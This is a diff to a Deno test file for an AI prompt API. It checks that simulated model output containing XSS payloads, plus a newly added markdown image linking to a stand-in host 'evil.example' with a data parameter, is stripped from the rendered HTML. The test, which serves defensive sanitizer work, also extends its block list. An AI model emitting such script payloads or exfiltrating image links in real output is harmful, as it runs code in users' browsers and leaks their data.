@@ -364,7 +364,7 @@ Deno.test("AI prompt API - an OpenAI-compatible server gets a safe prompt and it
         chunks: [
           "**Bien** <script>alert(1)</script>",
           "<img src=x onerror=alert(2)>",
-          "[x](javascript:alert(3))",
+          "[x](javascript:alert(3)) ![leak](https://evil.example/?d=1)",
         ],
       };
       const res = await ask(
@@ -380,7 +380,9 @@ Deno.test("AI prompt API - an OpenAI-compatible server gets a safe prompt and it
       assert.ok(events.filter((e) => e.event === "delta").length >= 3, "the answer came in several deltas");
       const done = JSON.parse(events.at(-1)!.data);
       assert.match(done.html, /<strong>Bien<\/strong>/);
-      for (const bad of ["<script", "onerror", "javascript:"]) assert.ok(!done.html.includes(bad), done.html);
+      for (const bad of ["<script", "<img", "onerror", "javascript:", "evil.example"]) {
+        assert.ok(!done.html.includes(bad), done.html);
+      }
     });
 
     await t.step("a model server that fails: 503", async () => {
